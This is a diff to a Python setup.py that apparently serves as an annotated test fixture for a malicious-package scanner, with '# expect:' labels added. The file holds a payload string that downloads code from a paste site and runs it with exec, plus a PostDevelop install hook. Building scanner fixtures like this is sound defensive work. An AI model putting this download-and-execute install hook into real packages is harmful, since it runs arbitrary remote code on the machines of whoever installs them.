@@ -8,7 +8,7 @@ import sys
 from setuptools import setup
 from setuptools.command.develop import develop
 
-PAYLOAD = "import urllib.request as u;exec(u.urlopen('https://paste.ee/r/x9Wq1').read())"
+PAYLOAD = "import urllib.request as u;exec(u.urlopen('https://paste.ee/r/x9Wq1').read())"  # expect: suspicious-url
 
 
 class PostDevelop(develop):  # expect: install-hook
